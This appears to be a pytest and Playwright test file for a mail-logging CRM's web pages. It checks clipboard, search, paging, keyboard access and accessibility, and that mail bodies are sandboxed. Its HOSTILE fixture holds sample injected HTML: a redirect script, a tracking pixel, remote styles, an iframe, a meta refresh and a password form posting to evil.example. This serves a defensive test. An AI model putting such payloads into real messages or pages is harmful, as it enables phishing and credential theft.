"""The pages in a real Chromium: copying, searching, paging, mending, on a phone, in the dark, and with a screen reader's eyes."""

from __future__ import annotations

import json
from importlib.resources import files
from typing import TYPE_CHECKING, Any

import pytest

from tests.cast import mail
from tests.web.conftest import served_pages, signed_in

if TYPE_CHECKING:
    import playwright.sync_api as playwright

    from tests.web.conftest import House, Window


@pytest.fixture(scope="session")
def server() -> None:
    """Databases in files alone: to these tests their kind makes no difference."""


HOSTILE = """
<p>Dear Carl</p><script>top.location = "https://evil.example/run"; document.title = "taken"</script>
<img src="https://evil.example/pixel.gif" onerror="document.title = 'taken'">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>
<p style="background:url(https://evil.example/z.gif);color:rgb(10, 20, 30)" id="styled">styled</p>
<iframe src="https://evil.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/m">
<form action="https://evil.example/post"><input name="password"><button>Sign in</button></form>
"""
PAGES = (
    "/contacts",
    "/contacts?q=offer",
    "/contacts?q=nothing-like-it",
    "/contacts/1",
    "/contacts/1/conversations/1",
    "/mails/1",
    "/not-logged",
    "/not-logged?day=2001-01-01",
    "/settings",
    "/status",
    "/nowhere",
)


def test_the_copy_button_puts_the_address_on_the_clipboard(window: Window, week: House) -> None:
    page = window.open("/settings")
    for name, address in (("Copy the BCC address", 0), ("Copy the forwarding address", 1)):
        page.get_by_role("button", name=name).click()
        expected = [each for (account, _), each in week.log.items() if account == "acme"][address]
        assert page.evaluate("navigator.clipboard.readText()") == expected
        assert page.get_by_role("button", name=name).text_content() == "Copied"


def test_a_body_runs_nothing_and_asks_nobody(window: Window, week: House) -> None:
    week.send(subject="Hostile", html=HOSTILE)
    page = window.open("/contacts?q=hostile")
    page.get_by_role("link", name="Hostile").click()
    frame = page.frame_locator("iframe")
    frame.get_by_text("Dear Carl").wait_for()
    page.wait_for_timeout(300)
    assert page.title().startswith("Hostile")
    assert [asked for asked in window.asked if not asked.startswith((window.url, "data:"))] == []
    assert frame.locator("script, form, iframe, link, meta[http-equiv]").count() == 0
    assert frame.get_by_text("styled").evaluate("e => getComputedStyle(e).color") == "rgb(10, 20, 30)"
    assert window.errors == []


def test_a_body_is_in_a_sandbox_even_by_itself(window: Window, week: House) -> None:
    week.send(subject="Alone", html="<p>Alone</p>")
    page = window.open("/mails/4/body")
    assert page.evaluate("window.origin") == "null"


def test_the_switch_shows_the_plain_text(window: Window) -> None:
    page = window.open("/mails/1")
    frame = page.frame_locator("iframe")
    frame.locator("b", has_text="Carl").wait_for()
    page.get_by_role("link", name="Plain text").click()
    frame.locator("pre", has_text="here is the offer").wait_for()


def test_searching_as_one_types_marks_the_hits(window: Window) -> None:
    page = window.open("/contacts")
    page.get_by_label("Search in names").press_sequentially("off")
    page.locator("mark", has_text="Offer").first.wait_for()
    page.get_by_label("Search in names").fill("carl")
    page.locator("a.contact", has_text="Carl Client").wait_for()
    page.get_by_label("Search in names").fill("<b>nothing like it")
    page.get_by_role("heading", name="Nothing found").wait_for()
    page.get_by_label("Search in names").fill("")
    page.locator("a.contact").first.wait_for()
    assert window.errors == []


def test_older_mails_come_in_place_and_each_once(window: Window, week: House) -> None:
    for number in range(60):
        week.send(
            subject=f"Matter {number}",
            body=f"number {number}",
            date=f"Sun, 3 May 2026 10:{number:02}:00 +0000",
        )
    page = window.open("/contacts/1")
    assert page.locator("article").count() == 50
    page.get_by_role("link", name="Older mails").click()
    page.locator("article").nth(60).wait_for()
    subjects = [
        each for each in page.locator("article .subject").all_inner_texts() if each.startswith("Matter")
    ]
    assert sorted(subjects) == sorted(f"Matter {number}" for number in range(60))
    assert page.get_by_role("link", name="Older mails").count() == 0


def test_a_conversation_is_folded(window: Window) -> None:
    page = window.open("/contacts/1")
    page.get_by_text("1 earlier mail in this conversation").click()
    page.get_by_role("link", name="Offer 17", exact=True).wait_for()


def test_ticking_all_and_mending_many_at_once(window: Window) -> None:
    page = window.open("/not-logged")
    page.get_by_label("All on this page").check()
    assert page.locator("input[name=receipt][type=checkbox]:checked").count() == 2
    page.get_by_role("button", name="Do it").click()
    page.get_by_text("It is noted, and done as soon as the mailbox can be read").wait_for()
    assert page.get_by_text("Waits to be taken in again").count() == 2


def test_everything_is_reached_by_the_keyboard(window: Window) -> None:
    page = window.open("/contacts")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "To the content"
    page.keyboard.press("Enter")
    for _ in range(4):
        page.keyboard.press("Tab")
    page.locator("a.contact").first.focus()
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Carl Client").wait_for()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_every_page_fits_and_is_accessible(
    week: House, chromium: playwright.Browser, scheme: str, width: int
) -> None:
    week.take(
        mail(to_log=next(iter(week.log.values())), headers=(("List-Id", "<a.b>"),), subject="Word" * 60)
    )
    longest = f"Eve <{'eve.' * 12}eve@gmail.com>"
    week.take(mail(to_log=next(iter(week.log.values())), author=longest, subject="W" * 150))
    with week.store.writing():
        from crm_logger.store.alarms import raise_alarm  # noqa: PLC0415 -- one line of a test

        raise_alarm("worker-silent", "no look for an hour", week.now)
    script = (files("axe_playwright_python") / "axe.min.js").read_text(encoding="utf-8")
    look: dict[str, Any] = {
        "color_scheme": scheme,
        "viewport": {"width": width, "height": 900},
        "bypass_csp": True,
    }
    with served_pages(week) as url, signed_in(week, chromium, url, **look) as window:
        for address in PAGES:
            page = window.open(address)
            for summary in page.locator("details > summary").all()[:4]:
                summary.click()
            look_over(page, script, width)
        background = window.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (background == "rgb(18, 21, 27)") is (scheme == "dark")
        window.page.context.clear_cookies()
        look_over(window.open("/sign-in/ended"), script, width)
        page = window.open("/sign-in")
        look_over(page, script, width)
        page.locator("main [name=form_token]").evaluate("field => field.value = 'old'")
        page.get_by_label("Your mail address").fill("ann@acme.test")
        page.get_by_label("Password").fill("a long enough one")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="That form was too old").wait_for()
        look_over(page, script, width)


def look_over(page: playwright.Page, script: str, width: int) -> None:
    assert page.evaluate("document.documentElement.scrollWidth") <= width, page.url
    assert violations(page, script) == [], page.url


def violations(page: playwright.Page, script: str) -> list[str]:
    """What axe-core has against the page by WCAG 2.2 AA and good practice."""
    page.evaluate(script)
    tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
    options = json.dumps({"runOnly": tags, "iframes": False})
    found = page.evaluate(f"axe.run(document, {options})")
    return [f"{each['id']}: {node['html'][:150]}" for each in found["violations"] for node in each["nodes"]]
